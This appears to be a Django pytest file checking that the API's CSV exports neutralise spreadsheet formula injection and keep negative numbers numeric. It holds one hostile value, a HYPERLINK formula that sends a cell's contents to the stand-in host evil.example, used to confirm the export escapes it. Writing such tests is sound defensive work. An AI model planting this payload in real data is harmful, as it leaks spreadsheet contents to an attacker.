"""Every list of the API answers ?format=csv with cells a spreadsheet reads as text, not formulas."""

import csv
import io

import pytest
from django.urls import reverse

from accounts.models import Role
from tests.factories import MetricValueFactory, metric

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&C2,"x")'


def _rows(response):
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_a_name_set_through_the_api_is_escaped_in_the_csv(client_as):
    staff = client_as(Role.STAFF, username="mallory")
    assert staff.patch(reverse("api:me"), {"name": EVIL_NAME}, format="json").status_code == 200

    rows = _rows(client_as("admin").get(reverse("api:user-list"), {"format": "csv", "username": "mallory"}))

    row = next(row for row in rows if row["id"] == str(staff.user.pk))
    assert row["name"] == "'" + EVIL_NAME
    assert row["display_name"] == "'" + EVIL_NAME


def test_negative_numbers_stay_numbers_in_the_csv(client_as):
    value = MetricValueFactory(metric=metric("units_sold"), value=-12.5)

    rows = _rows(client_as(Role.VIEWER).get(reverse("api:metric-value-list"), {"format": "csv"}))

    assert [row["value"] for row in rows if row["id"] == str(value.pk)] == ["-12.5000"]
